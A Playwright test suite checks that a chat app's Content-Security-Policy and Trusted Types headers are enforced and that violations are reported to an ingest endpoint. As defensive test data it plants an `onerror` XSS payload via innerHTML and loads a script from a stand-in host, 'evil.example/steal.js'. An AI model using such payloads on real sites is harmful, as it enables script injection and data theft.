import type { Page } from "@playwright/test";
import { AdminPage } from "./pages/AdminPage";
import { SettingsPage } from "./pages/SettingsPage";
import { expect, test } from "./support/fixtures";
import { cspReports, receivedBodies, type CspReport } from "./support/ingest";
import { offlineVercelConfig } from "../scripts/harness/vercel/offline-vercel-config";
import { INGEST_URL, SENTRY_DSN, stackUrls } from "./support/stack-config";
import { headersFor } from "../scripts/harness/vercel/vercel-routing";

// The whole suite's build is served with vercel.json's headers (production
// hosts swapped for the offline stack's: serve-like-vercel.ts). This spec
// proves that policy is really in force: the app works under it without a
// single CSP or Trusted Types violation, and a violation is blocked and
// reported to Sentry's CSP endpoint (the ingest stand-in).

type Violation = { directive: string; blocked: string; disposition: string; sample: string; page: string };

/** Every securitypolicyviolation event on every document the page loads (enforced and report-only). */
async function watchViolations(page: Page): Promise<Violation[]> {
  const violations: Violation[] = [];
  await page.exposeBinding("__cspViolation", (_source, violation: Violation) => void violations.push(violation));
  await page.addInitScript(() => {
    document.addEventListener("securitypolicyviolation", (event) => {
      const report = (window as unknown as { __cspViolation: (v: unknown) => void }).__cspViolation;
      report({
        directive: event.effectiveDirective,
        blocked: event.blockedURI,
        disposition: event.disposition,
        sample: event.sample,
        page: location.pathname,
      });
    });
  });
  return violations;
}

/** Polls the ingest server until `match` finds reports received since `since`. */
async function waitForReports(since: number, match: (report: CspReport) => boolean): Promise<CspReport[]> {
  let found: CspReport[] = [];
  await expect
    .poll(
      async () => {
        const bodies = (await receivedBodies()).filter((body) => body.at >= since);
        found = cspReports(bodies);
        return found.some(match);
      },
      { timeout: 20_000, intervals: [250, 500, 1_000] },
    )
    .toBe(true);
  return found;
}

const PLANTED_TEXT = "zq-planted-markup";
const PLANT_MARKUP = `<img src="x" onerror="alert(1)">${PLANTED_TEXT}`;

/** An innerHTML assignment outside SafeText's policy; returns what was thrown, if anything. */
async function plantInnerHtml(page: Page): Promise<string> {
  return page.evaluate((markup) => {
    try {
      document.body.appendChild(document.createElement("div")).innerHTML = markup;
      return "assigned";
    } catch (error) {
      return `${(error as Error).name}: ${(error as Error).message}`;
    }
  }, PLANT_MARKUP);
}

test("the build is served with vercel.json's headers, offline hosts swapped in", async ({ request }) => {
  const urls = stackUrls();
  const config = offlineVercelConfig({ ...urls, ingest: INGEST_URL, sentryDsn: SENTRY_DSN });
  const page = await request.get("/c/some-conversation");
  expect(page.headers()["content-type"]).toContain("text/html");
  for (const [key, value] of Object.entries(headersFor(config, "/c/some-conversation")))
    expect(page.headers()[key.toLowerCase()], key).toBe(value);
  expect(page.headers()["content-security-policy"]).toContain(
    "require-trusted-types-for 'script'; trusted-types safe-text default",
  );
  expect(page.headers()["content-security-policy"]).not.toMatch(/\*/);
  const script = /src="(\/assets\/[^"]+\.js)"/.exec(await page.text())?.[1];
  expect(script).toBeDefined();
  const asset = await request.get(script!);
  expect(asset.headers()["cache-control"]).toBe("public, max-age=31536000, immutable");
});

test("sign-in, chat, settings and admin work under Trusted Types with no CSP violation", async ({
  page,
  signInPage,
  chatPage,
}, testInfo) => {
  test.setTimeout(90_000);
  const violations = await watchViolations(page);
  const since = Date.now();

  await signInPage.goto();
  await signInPage.signIn(`admin ${testInfo.title.slice(0, 20)} ${Date.now().toString(36)}`, { role: "admin" });
  // A reply with markdown goes through SafeText: DOMPurify's TrustedHTML into innerHTML.
  const reply = await chatPage.sendAndWait("Show me **bold** text, a list and a `code` block");
  await expect(reply.getByTestId("safe-text")).not.toBeEmpty();

  const settings = new SettingsPage(page);
  await settings.open();
  await settings.saveKey("groq", `gsk_${"H".repeat(52)}`); // live-checked against the LLM server: connect-src
  await expect(settings.feedback("groq")).toBeVisible();

  const admin = new AdminPage(page);
  await admin.navLink.click();
  await expect(admin.dashboard).toBeVisible();
  await expect(page.getByTestId("loading")).toHaveCount(0);

  // The one HTML policy exists (SafeText made it), and the CSP lets no other be created.
  const policyErrors = await page.evaluate(() =>
    ["safe-text", "another-policy", "dompurify"].map((name) => {
      try {
        (
          window as unknown as { trustedTypes: { createPolicy(name: string, options: object): unknown } }
        ).trustedTypes.createPolicy(name, {});
        return `${name}: created`;
      } catch (error) {
        return `${name}: ${(error as Error).name}`;
      }
    }),
  );
  expect(policyErrors).toEqual(["safe-text: TypeError", "another-policy: TypeError", "dompurify: TypeError"]);
  const attempts = violations.splice(0); // those three attempts were violations on purpose
  expect(attempts.map((violation) => violation.directive)).toEqual(["trusted-types", "trusted-types", "trusted-types"]);

  // A marker violation, then every report since the start: only the marker's and the three attempts may be there.
  expect(await plantInnerHtml(page)).toMatch(/^TypeError/);
  const reports = await waitForReports(since, (report) => report.effectiveDirective === "require-trusted-types-for");
  expect(violations.filter((violation) => violation.directive !== "require-trusted-types-for")).toEqual([]);
  expect(reports.map((report) => report.effectiveDirective).sort()).toEqual([
    "require-trusted-types-for",
    "trusted-types",
    "trusted-types",
    "trusted-types",
  ]);
});

test("a planted innerHTML outside SafeText's policy is blocked and reported to Sentry's CSP endpoint", async ({
  page,
  signInAsNewUser,
}) => {
  const violations = await watchViolations(page);
  await signInAsNewUser();
  const since = Date.now();

  const outcome = await plantInnerHtml(page);

  expect(outcome).toMatch(/^TypeError: .*TrustedHTML/);
  await expect(page.getByText(PLANTED_TEXT)).toHaveCount(0);
  expect(violations).toEqual([
    expect.objectContaining({ directive: "require-trusted-types-for", disposition: "enforce" }),
  ]);
  const reports = await waitForReports(since, (report) => report.effectiveDirective === "require-trusted-types-for");
  expect(reports).toEqual([
    expect.objectContaining({ effectiveDirective: "require-trusted-types-for", disposition: "enforce" }),
  ]);
  expect(reports[0]!.documentUrl).toContain("127.0.0.1");
});

test("a script URL from anywhere but Clerk is refused by the default policy, and reported", async ({
  page,
  signInAsNewUser,
}) => {
  const violations = await watchViolations(page);
  await signInAsNewUser();
  const since = Date.now();
  const outcome = await page.evaluate(() => {
    try {
      document.createElement("script").src = "https://evil.example/steal.js";
      return "assigned";
    } catch (error) {
      return (error as Error).name;
    }
  });
  expect(outcome).toBe("TypeError");
  expect(violations).toEqual([
    expect.objectContaining({ directive: "require-trusted-types-for", disposition: "enforce" }),
  ]);
  await waitForReports(since, (report) => report.effectiveDirective === "require-trusted-types-for");
});
